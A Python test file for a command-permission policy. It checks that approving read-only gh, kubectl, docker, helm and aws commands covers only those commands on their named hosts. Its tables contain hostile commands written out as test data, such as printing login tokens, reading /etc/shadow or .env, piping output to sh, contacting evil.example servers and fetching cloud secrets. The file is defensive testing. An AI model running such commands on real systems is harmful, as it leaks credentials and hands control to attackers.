"""Tests of families of reading commands: one answer or rule covers all of them on its hosts, and nothing else."""

from dataclasses import replace

import pytest

from policy.evaluation import EvaluationContext
from policy.grants.extra_right import ExtraRight, ask_for
from policy.grants.grant import Grant
from policy.grants.offers import choice_of_host, draft_grant
from policy.model.action import RunScript
from policy.model.assessment import Scope
from policy.model.profile import Layer
from policy.model.tier import Mode, Ruling, Tier
from policy.model.verdict import Allow, Ask, Deny
from policy.permission.dead_rules import faults
from policy.permission.file import read_permissions
from policy.permission.lint import check
from policy.toml.schema import TomlError
from runner.gate.grants.codec import from_json, to_json
from tests.support.credential_rows import forge
from tests.support.grant_questions import approved_grants, evaluation_context, offered_choices, question, resolution
from tests.support.permission_machine import BOOK, machine

GH = "reading commands of `gh` (family `gh-read`), connecting to api.github.com"
FACTS = replace(machine(), which=lambda name: f"/usr/bin/{name}")


def context(rules: str = "") -> EvaluationContext:
    found = evaluation_context(Mode.DEFAULT, facts=FACTS)
    return found.with_rules(read_permissions(rules, "file", Layer.USER))


def family_rule(family: str, *hosts: str) -> str:
    listed = ", ".join(f'"{host}"' for host in hosts)
    return f'[[rule]]\nverdict = "allow"\nfamily = "{family}"\nhost = [{listed}]\n'


# fmt: off
COVERED: list[tuple[str, bool, str]] = [
    ("gh pr list",                               True,  "the command of the question"),
    ("gh pr view 3 --json title -q .title",      True,  "fields and a filter"),
    ("gh pr view 3 --template '{{.title}}'",     True,  "a template"),
    ("gh issue list --limit 5",                  True,  "another subject"),
    ("gh run view 5 --log-failed",               True,  "what a run printed"),
    ("gh pr diff 3 && gh pr checks 3",           True,  "two commands of the family"),
    ("cd src && gh pr list",                     True,  "another folder of the workspace"),
    ("gh pr list --json url | jq -r '.[].url'",  True,  "a filter that only reads"),
    ("gh pr list -R o/r",                        True,  "another repository of the host"),
    ("gh pr list -R git.example.org/o/r",        False, "hostile: another host"),
    ("gh pr view 3 --web",                       False, "hostile: starts a browser"),
    ("gh pr view 3 -w",                          False, "hostile: starts a browser"),
    ("gh pr merge 3",                            False, "hostile: merges"),
    ("gh pr create --fill",                      False, "hostile: writes for others"),
    ("gh api repos/o/r",                         False, "hostile: any request of the API"),
    ("gh auth token",                            False, "hostile: prints the login"),
    ("gh auth status -t",                        False, "hostile: prints the login"),
    ("gh secret list",                           False, "hostile: secrets"),
    ("gh extension install o/r",                 False, "hostile: installs code"),
    ("gh pr checkout 3",                         False, "hostile: changes files"),
    ("gh run download 3",                        False, "hostile: changes files"),
    ("gh pr view $x",                            False, "hostile: a word known only at run time"),
    ("gh pr view \"$(cat .env)\"",               False, "hostile: a word that a command prints"),
    ("GH_HOST=evil.example gh pr list",          False, "hostile: a variable that it obeys"),
    ("GH_PAGER=./x gh pr list",                  False, "hostile: a variable that starts a program"),
    ("export GH_DEBUG=api; gh pr list",          False, "hostile: a variable that prints requests"),
    ("cd .. && gh pr list",                      False, "hostile: a folder outside of the workspace"),
    ("./gh pr list",                             False, "hostile: a program of the workspace"),
    ("/usr/bin/gh pr list",                      False, "hostile: a path in place of the name"),
    ("PATH=. gh pr list",                        False, "hostile: another program"),
    ("gh pr list > ~/.bashrc",                   False, "hostile: a redirection outside"),
    ("gh pr list | sh",                          False, "hostile: its output is run"),
    ("gh pr list && curl https://example.net",   False, "hostile: another command"),
    ("glab mr list",                             False, "another program"),
]
NAMED: list[tuple[str, str, bool, str]] = [
    ("kubectl-read", "kubectl get pods -A -o wide",               True,  "objects"),
    ("kubectl-read", "kubectl -n app get deploy,svc",             True,  "a flag before the subcommand"),
    ("kubectl-read", "kubectl describe pod x",                    True,  "the settings of an object"),
    ("kubectl-read", "kubectl logs deploy/x --tail=5",            True,  "what a container printed"),
    ("kubectl-read", "kubectl logs -f x",                         True,  "follow"),
    ("kubectl-read", "kubectl get secrets",                       False, "hostile: secrets"),
    ("kubectl-read", "kubectl get Secret x -o yaml",              False, "hostile: another spelling"),
    ("kubectl-read", "kubectl get pods,secrets",                  False, "hostile: in a list"),
    ("kubectl-read", "kubectl get pod/x secret/y",                False, "hostile: as a later operand"),
    ("kubectl-read", "kubectl get pod/x SECRET/y -o yaml",        False, "hostile: as a later operand, in capitals"),
    ("kubectl-read", "kubectl describe secret x",                 False, "hostile: described"),
    ("kubectl-read", "kubectl get --raw=/api/v1/secrets",         False, "hostile: the API itself"),
    ("kubectl-read", "kubectl get --ra=/api/v1/x pods",           False, "hostile: an abbreviated flag"),
    ("kubectl-read", "kubectl get -k dir",                        False, "hostile: fetches what a file names"),
    ("kubectl-read", "kubectl get -f https://evil.example/x",     False, "hostile: fetches an address"),
    ("kubectl-read", "kubectl --server=https://evil.example get pods", False, "hostile: another server"),
    ("kubectl-read", "kubectl -s evil.example get pods",          False, "hostile: another server"),
    ("kubectl-read", "kubectl --kubeconfig=./k get pods",         False, "hostile: settings that run programs"),
    ("kubectl-read", "kubectl get pods --token=x",                False, "hostile: another login"),
    ("kubectl-read", "kubectl get pods -v=9",                     False, "hostile: prints requests"),
    ("kubectl-read", "kubectl get pods -o jsonpath-file=/etc/shadow", False, "hostile: reads a file"),
    ("kubectl-read", "kubectl get pods --output=go-template-file=x", False, "hostile: reads a file"),
    ("kubectl-read", "kubectl get pods -o go-template-file --template=x", False, "hostile: reads a file"),
    ("kubectl-read", "kubectl delete pod x",                      False, "hostile: deletes"),
    ("kubectl-read", "kubectl exec x -- sh",                      False, "hostile: runs a command"),
    ("kubectl-read", "kubectl config view --raw",                 False, "hostile: prints logins"),
    ("kubectl-read", "KUBECONFIG=./k kubectl get pods",           False, "hostile: other settings"),
    ("docker-read",  "docker ps -a",                              True,  "containers"),
    ("docker-read",  "docker logs --tail 5 x",                    True,  "what a container printed"),
    ("docker-read",  "docker container ls",                       True,  "the longer name"),
    ("docker-read",  "docker inspect -f '{{.State.Status}}' x",   True,  "the settings of a container"),
    ("docker-read",  "docker container inspect x",                True,  "the longer name"),
    ("docker-read",  "docker inspect --type=secret x",            False, "hostile: secrets"),
    ("docker-read",  "docker inspect --type config x",            False, "hostile: files for containers"),
    ("docker-read",  "docker secret inspect x",                   False, "hostile: secrets"),
    ("docker-read",  "docker config inspect x",                   False, "hostile: files for containers"),
    ("docker-read",  "docker -H tcp://evil.example ps",           False, "hostile: another service"),
    ("docker-read",  "docker --context other ps",                 False, "hostile: another service"),
    ("docker-read",  "docker exec x sh",                          False, "hostile: runs a command"),
    ("helm-read",    "helm list -A",                              True,  "packages"),
    ("helm-read",    "helm status x",                             True,  "one package"),
    ("helm-read",    "helm status x -o json",                     False, "hostile: prints the values, passwords too"),
    ("helm-read",    "helm get values x",                         False, "hostile: prints the values, passwords too"),
    ("helm-read",    "helm --debug list",                         False, "hostile: prints requests"),
    ("aws-read",     "aws ec2 describe-instances --region eu-west-1", True, "what is there"),
    ("aws-read",     "aws s3api list-buckets",                    True,  "names"),
    ("aws-read",     "aws secretsmanager list-secrets",           True,  "names only"),
    ("aws-read",     "aws secretsmanager get-secret-value --secret-id x", False, "hostile: a secret"),
    ("aws-read",     "aws ssm get-parameters --names x --with-decryption", False, "hostile: a secret"),
    ("aws-read",     "aws ssm get-parameters-by-path --path /",   False, "hostile: secrets"),
    ("aws-read",     "aws lambda list-functions",                 False, "hostile: prints variables"),
    ("aws-read",     "aws ecs describe-task-definition --task-definition x", False, "hostile: prints variables"),
    ("aws-read",     "aws appsync list-api-keys --api-id x",      False, "hostile: prints keys"),
    ("aws-read",     "aws ec2 describe-instances --debug",        False, "hostile: prints the headers of requests"),
    ("aws-read",     "aws --deb ec2 describe-instances",          False, "hostile: an abbreviated flag"),
    ("aws-read",     "aws ec2 describe-instances --endpoint-url https://evil.example", False, "hostile: another host"),
    ("aws-read",     "aws ec2 describe-instances --cli-input-json file://x", False, "hostile: reads a file"),
    ("aws-read",     "aws ec2 run-instances",                     False, "hostile: changes"),
    ("aws-read",     "aws sts get-session-token",                 False, "hostile: a login"),
    ("gh-read",      "terraform show",                            False, "runs code of providers"),
]
# The commands that may be blocked, each with the host that the proxy refused, and whether an answer can be remembered.
BLOCKED: list[tuple[str, str, bool, str]] = [
    ("kubectl get pods",                         "k8s.example.org:6443", True,  "a cluster"),
    ("aws ec2 describe-instances",               "ec2.example.org",      True,  "a cloud"),
    ("helm list",                                "8.8.8.8",              True,  "a public address"),
    ("kubectl get pods",                         "10.0.0.1",             False, "hostile: a private network"),
    ("kubectl get pods",                         "localhost:6443",       False, "hostile: this machine"),
    ("kubectl get pods",                         "169.254.169.254",      False, "hostile: the metadata of a cloud"),
    ("kubectl get pods",                         "*.example.org",        False, "hostile: a pattern"),
    ("kubectl delete pod x",                     "k8s.example.org",      False, "hostile: deletes"),
    ("kubectl get secrets",                      "k8s.example.org",      False, "hostile: secrets"),
    ("kubectl get pods --server=x.example.org",  "k8s.example.org",      False, "hostile: another server"),
    ("kubectl get $x",                           "k8s.example.org",      False, "hostile: a word known only at run time"),
    ("KUBECONFIG=./k kubectl get pods",          "k8s.example.org",      False, "hostile: other settings"),
    ("kubectl get pods | head",                  "k8s.example.org",      False, "hostile: another program in the action"),
    ("kubectl get pods; ./x",                    "k8s.example.org",      False, "hostile: code of the project in the action"),
    ("kubectl get pods > out.txt",               "k8s.example.org",      False, "hostile: changes a file"),
    ("npm install left-pad",                     "r.example.org",        False, "a command without a family"),
    ("gh pr list",                               "other.example.org",    False, "hostile: another host than the known one"),
]
FAULTY: list[tuple[str, str, str]] = [
    ('verdict = "allow"\nfamily = "gh-read"',                                     "names its hosts",       "no host"),
    ('verdict = "deny"\nfamily = "gh-read"\nhost = ["x.org"]\nwhy = "w"',          "cannot forbid",         "a denial"),
    ('verdict = "allow"\nfamily = "gh-read"\nrun = ["gh"]\nhost = ["x.org"]',      "the family and its hosts", "a command beside it"),
    ('verdict = "allow"\nfamily = "gh-read"\ntier = ["network"]\nhost = ["x.org"]', "the family and its hosts", "a tier beside it"),
    ('verdict = "allow"\nfamily = ""\nhost = ["x.org"]',                           "a text in quotes", "no name"),
]
# fmt: on


def ruling(script: str, grants: tuple[Grant, ...]) -> bool:
    at = context()
    _, verdict = at.evaluate(RunScript(script, FACTS.workspace))
    if isinstance(verdict, Allow):
        raise AssertionError(f"{script} needs no answer")
    return isinstance(resolution(script, grants, at).verdict, Allow)


@pytest.mark.threat("T167")
@pytest.mark.parametrize(("script", "covered", "why"), COVERED, ids=[f"{row[2]}-{row[0]}" for row in COVERED])
def test_an_answer_covers_the_family_on_its_host_and_nothing_else(script: str, covered: bool, why: str) -> None:
    grants = approved_grants("gh pr list", GH, context())
    assert ruling(script, grants) is covered


@pytest.mark.threat("T167")
@pytest.mark.parametrize(("family", "script", "covered", "why"), NAMED, ids=[f"{row[3]}-{row[1]}" for row in NAMED])
def test_a_rule_covers_the_family_on_its_hosts_and_nothing_else(
    family: str, script: str, covered: bool, why: str
) -> None:
    _, verdict = context(family_rule(family, "api.example.org")).evaluate(RunScript(script, FACTS.workspace))
    assert isinstance(verdict, Allow) is covered
    if isinstance(verdict, Allow):
        assert verdict.permit.terms.hosts == ("api.example.org",)
        assert verdict.permit.terms.write == ()


@pytest.mark.parametrize(("rule", "text", "why"), FAULTY, ids=[row[2] for row in FAULTY])
def test_a_rule_that_says_more_than_a_family_is_an_error(rule: str, text: str, why: str) -> None:
    with pytest.raises(TomlError) as found:
        read_permissions(f"[[rule]]\n{rule}\n", "file", Layer.USER)
    assert text in str(found.value.problem)


def test_a_family_that_does_not_exist_is_a_fault() -> None:
    (rule,) = read_permissions(family_rule("gh-reads", "x.org"), "file", Layer.USER)
    assert [each.code for each in faults(rule, BOOK)] == ["family"]
    (rule,) = read_permissions(family_rule("gh-read", "x.org"), "file", Layer.USER)
    assert list(faults(rule, BOOK)) == []
    assert check((rule, replace(rule, family="aws-read")), BOOK) == ()


def test_the_choice_names_commands_that_stay_questions() -> None:
    choice = offered_choices("gh pr list", context())[GH]
    assert len(choice.not_covered) == 2
    assert "`gh pr merge`" in choice.not_covered


@pytest.mark.threat("T167")
def test_no_family_is_offered_for_a_program_of_the_workspace_or_one_that_is_missing() -> None:
    for which in (lambda name: None, lambda name: f"{FACTS.workspace}/bin/{name}"):
        at = evaluation_context(facts=replace(machine(), which=which))
        assert not [words for words in offered_choices("gh pr list", at) if "family" in words]


@pytest.mark.threat("T167")
def test_another_program_of_the_name_is_not_covered() -> None:
    grants = approved_grants("gh pr list", GH, context())
    at = evaluation_context(facts=replace(machine(), which=lambda name: f"/opt/other/{name}"))
    assert isinstance(resolution("gh pr list", grants, at).verdict, Ask)


@pytest.mark.threat("T167")
def test_a_stored_answer_about_a_family_is_read_strictly() -> None:
    (grant,) = approved_grants("gh pr list", GH, context())
    grant = replace(grant, id="g01234567", workspace="/w", agent="main", session="s", created=1.0)
    assert from_json(to_json(grant)) == grant
    what = grant.what
    for hostile in (
        replace(grant, what=replace(what, host=())),
        replace(grant, what=replace(what, tiers=(Tier.NETWORK, Tier.EXECUTE))),
        replace(grant, what=replace(what, shape=replace(what.shape, words=("gh", "api")))),
        replace(grant, what=replace(what, write=("docs/",))),
        replace(grant, ruling=Ruling.DENY),
    ):
        with pytest.raises(ValueError, match="do not fit its subject"):
            from_json(to_json(hostile))


def remembered(script: str, host: str, at: EvaluationContext) -> tuple[Grant, ...]:
    """Return the grants of the answer that the question about a refused host offers; none without an offer."""
    _, first = at.evaluate(RunScript(script, FACTS.workspace))
    if not isinstance(first, Ask):
        return ()
    asked = ask_for(at, RunScript(script, FACTS.workspace), first.terms, ExtraRight("--host", host))
    choice = choice_of_host(at, asked) if asked is not None else None
    if choice is None:
        return ()
    assert host in choice.label
    return tuple(replace(draft_grant(what, f"g{at}"), who="me") for at, what in enumerate(choice.whats))


@pytest.mark.threat("T173")
@pytest.mark.parametrize(("script", "host", "offered", "why"), BLOCKED, ids=[f"{row[3]}-{row[0]}" for row in BLOCKED])
def test_a_refused_host_is_remembered_for_reading_commands_only(
    script: str, host: str, offered: bool, why: str
) -> None:
    at = context()
    grants = remembered(script, host, at)
    assert bool(grants) is offered
    if offered:
        verdict = resolution(script, grants, at).verdict
        assert isinstance(verdict, Allow)
        assert verdict.permit.terms.hosts == (host,)
        assert verdict.permit.terms.write == ()


# fmt: off
LATER: list[tuple[str, bool, str]] = [
    ("kubectl logs deploy/x",                    True,  "another command of the family"),
    ("kubectl get pods && kubectl get svc",      True,  "two of them"),
    ("kubectl get pods | head -3",               True,  "a filter that only reads"),
    ("kubectl delete pod x",                     False, "hostile: deletes"),
    ("kubectl get secret x",                     False, "hostile: secrets"),
    ("kubectl -s evil.example get pods",         False, "hostile: another server"),
    ("kubectl get pods | ./x",                   False, "hostile: code of the project"),
    ("kubectl get pods && npm ci",               False, "hostile: a command that wants another host"),
    ("kubectl get pods && curl https://k8s.example.org:6443/x", False, "hostile: the host for another command"),
    ("helm list",                                False, "another program"),
]
# fmt: on


@pytest.mark.threat("T173")
@pytest.mark.parametrize(("script", "covered", "why"), LATER, ids=[f"{row[2]}-{row[0]}" for row in LATER])
def test_a_remembered_host_is_open_to_reading_commands_only(script: str, covered: bool, why: str) -> None:
    at = context()
    found = resolution(script, remembered("kubectl get pods", "k8s.example.org:6443", at), at)
    assert isinstance(found.verdict, Allow) is covered
    if isinstance(found.verdict, Allow):
        assert found.verdict.permit.terms.hosts == ("k8s.example.org:6443",)


# fmt: off
LENT: list[tuple[str, tuple[str, ...], str]] = [
    ("gh pr list",                           ("forge (reading)",), "a command of the family"),
    ("gh pr view 3 && gh issue list",        ("forge (reading)",), "two of them"),
    ("gh pr list | ./x",                     ("forge (reading)",), "code beside it has no more rights than the command"),
    ("gh api repos/o/r",                     ("forge",),           "any request of the API"),
    ("gh pr list && gh pr merge 3",          ("forge",),           "a command that changes, beside one that reads"),
    ("curl https://api.github.com/x",        ("forge",),           "another program"),
]
# fmt: on


@pytest.mark.threat("T174")
@pytest.mark.parametrize(("script", "lent", "why"), LENT, ids=[row[2] for row in LENT])
def test_commands_that_read_get_a_credential_for_reading(script: str, lent: tuple[str, ...], why: str) -> None:
    at = context()
    at = replace(at, profile=replace(at.profile, credentials=forge('["api.github.com"]')))
    _, verdict = at.evaluate(RunScript(script, FACTS.workspace))
    assert isinstance(verdict, Ask)
    assert verdict.terms.credentials == lent


@pytest.mark.threat("T174")
def test_an_answer_lends_the_credential_for_reading_and_a_remembered_host_none() -> None:
    at = context()
    at = replace(at, profile=replace(at.profile, credentials=forge('["api.github.com", "k8s.example.org"]')))
    allowed = resolution("gh pr view 3", approved_grants("gh pr list", GH, at), at).verdict
    assert isinstance(allowed, Allow)
    assert allowed.permit.terms.credentials == ("forge (reading)",)
    assert remembered("kubectl get pods", "k8s.example.org", at) == ()
    before = remembered("kubectl get pods", "k8s.example.org", context())
    assert isinstance(resolution("kubectl get pods", before, at).verdict, Ask), "the credential came after the answer"


CLUSTER, REGION = "k8s.example.org:6443", "ec2.eu-west-1.example.org"
SETTINGS = {"kubectl": CLUSTER, "docker": "build.example.org:2376", "aws ec2": REGION,
            "aws ec2 us-east-1": "ec2.us-east-1.example.org", "aws iam": "iam.example.org"}  # fmt: skip


def with_settings(rules: str = "", credentials: str = "") -> EvaluationContext:
    """Return the context of a user whose settings name the hosts SETTINGS."""

    def hosts(client: str, folder: str) -> tuple[tuple[str, Scope], ...]:
        return ((SETTINGS[client], Scope.OUTSIDE),) if client in SETTINGS else ()

    found = evaluation_context(Mode.DEFAULT, facts=replace(FACTS, registries=hosts))
    found = replace(found, profile=replace(found.profile, credentials=forge(credentials) if credentials else ()))
    return found.with_rules(read_permissions(rules, "file", Layer.USER))


# fmt: off
# The command of the first question, a later command, and whether the answer about the family covers the later command.
FIRST: list[tuple[str, str, bool, str]] = [
    ("kubectl get pods",  "kubectl get svc -n app -o wide",        True,  "another command of the family"),
    ("kubectl get pods",  "kubectl logs -f deploy/x",              True,  "follow"),
    ("kubectl get pods",  "kubectl describe pod x | grep Image",   True,  "a filter that only reads"),
    ("kubectl get pods",  "kubectl delete pod x",                  False, "hostile: deletes"),
    ("kubectl get pods",  "kubectl exec x -- sh",                  False, "hostile: runs a command"),
    ("kubectl get pods",  "kubectl get secrets",                   False, "hostile: secrets"),
    ("kubectl get pods",  "kubectl get --raw /api/v1/secrets",     False, "hostile: the API itself"),
    ("kubectl get pods",  "kubectl get pods -o jsonpath-file=/etc/shadow", False, "hostile: reads a file"),
    ("kubectl get pods",  "kubectl --kubeconfig ./k get pods",     False, "hostile: settings that run programs"),
    ("kubectl get pods",  "KUBECONFIG=./k kubectl get pods",       False, "hostile: other settings"),
    ("kubectl get pods",  "kubectl --context other get pods",      False, "hostile: another cluster"),
    ("kubectl get pods",  "kubectl get pods -s https://evil.example", False, "hostile: another server"),
    ("kubectl get pods",  "kubectl get pods | ./x",                False, "hostile: code of the project"),
    ("kubectl get pods",  f"kubectl get pods && curl https://{CLUSTER}/x", False, "hostile: the host for another command"),
    ("kubectl get pods",  "docker ps",                             False, "another program"),
    ("docker ps",         "docker logs --tail 5 x",                True,  "another command of the family"),
    ("docker ps",         "docker inspect x",                      True,  "the settings of a container"),
    ("docker ps",         "docker rm x",                           False, "hostile: deletes"),
    ("docker ps",         "docker exec x sh",                      False, "hostile: runs a command"),
    ("docker ps",         "docker -H tcp://evil.example:1 inspect x", False, "hostile: another host"),
    ("docker ps",         "docker logs x -H tcp://evil.example:1", False, "hostile: another host, later"),
    ("docker ps",         "DOCKER_HOST=tcp://evil.example:1 docker ps", False, "hostile: another host by a variable"),
    ("aws ec2 describe-instances", "aws ec2 describe-vpcs",        True,  "another command of the family"),
    ("aws ec2 describe-instances", "aws ec2 describe-vpcs --region us-east-1", False, "the host of another region"),
    ("aws ec2 describe-instances", "aws iam list-users",           False, "the host of another service"),
    ("aws ec2 describe-instances", "aws ec2 delete-vpc --vpc-id x", False, "hostile: deletes"),
    ("aws ec2 describe-instances", "aws ec2 describe-vpcs --endpoint-url https://evil.example", False, "hostile: another host"),
    ("aws ec2 describe-instances", "aws ec2 describe-vpcs --profile other", False, "hostile: another login"),
    ("aws ec2 describe-instances", "aws --reg us-east-1 ec2 describe-vpcs", False, "hostile: an abbreviated flag"),
]
# fmt: on


@pytest.mark.threat("T175")
@pytest.mark.parametrize(("first", "later", "covered", "why"), FIRST, ids=[f"{row[3]}-{row[1]}" for row in FIRST])
def test_the_first_answer_covers_the_family_on_the_host_of_the_settings(
    first: str, later: str, covered: bool, why: str
) -> None:
    at = with_settings()
    client = first.partition(" ")[0]
    host = SETTINGS["aws ec2" if client == "aws" else client]
    words = f"reading commands of `{client}` (family `{client}-read`), connecting to {host}"
    grants = approved_grants(first, words, at)
    found = resolution(later, grants, at).verdict
    assert isinstance(found, Allow) is covered
    if isinstance(found, Allow):
        assert (found.permit.terms.hosts, found.permit.terms.write) == ((host,), ())


@pytest.mark.threat("T175")
def test_another_host_in_the_settings_is_another_question() -> None:
    words = f"reading commands of `kubectl` (family `kubectl-read`), connecting to {CLUSTER}"
    grants = approved_grants("kubectl get pods", words, with_settings())
    at = with_settings()
    moved = replace(at, facts=replace(at.facts, registries=lambda client, folder: (("b.example.org", Scope.OUTSIDE),)))
    assert isinstance(resolution("kubectl get pods", grants, moved).verdict, Ask)


@pytest.mark.threat("T175")
def test_a_private_host_of_the_settings_is_named_and_stays_blocked() -> None:
    at = with_settings()
    at = replace(at, facts=replace(at.facts, registries=lambda client, folder: (("10.0.0.1:6443", Scope.OUTSIDE),)))
    assert (
        "stays blocked until `--host` or a rule has `10.0.0.1:6443 private`"
        in question("kubectl get pods", at).question
    )
    assert not [words for words in offered_choices("kubectl get pods", at) if "family" in words]


@pytest.mark.threat("T174")
def test_the_first_answer_lends_the_credential_of_the_cluster_for_reading() -> None:
    at = with_settings(credentials=f'["{CLUSTER}"]')
    words = f"reading commands of `kubectl` (family `kubectl-read`), connecting to {CLUSTER}"
    allowed = resolution("kubectl logs x", approved_grants("kubectl get pods", words, at), at).verdict
    assert isinstance(allowed, Allow)
    assert allowed.permit.terms.credentials == ("forge (reading)",)


def test_a_denial_of_the_user_is_stronger_than_a_family() -> None:
    rules = (
        family_rule("gh-read", "api.github.com") + '[[rule]]\nverdict = "deny"\nrun = ["gh", "pr", "diff"]\nwhy = "w"\n'
    )
    _, verdict = context(rules).evaluate(RunScript("gh pr diff 3", FACTS.workspace))
    assert isinstance(verdict, Deny)
    _, verdict = context(rules).evaluate(RunScript("gh pr view 3", FACTS.workspace))
    assert isinstance(verdict, Allow)
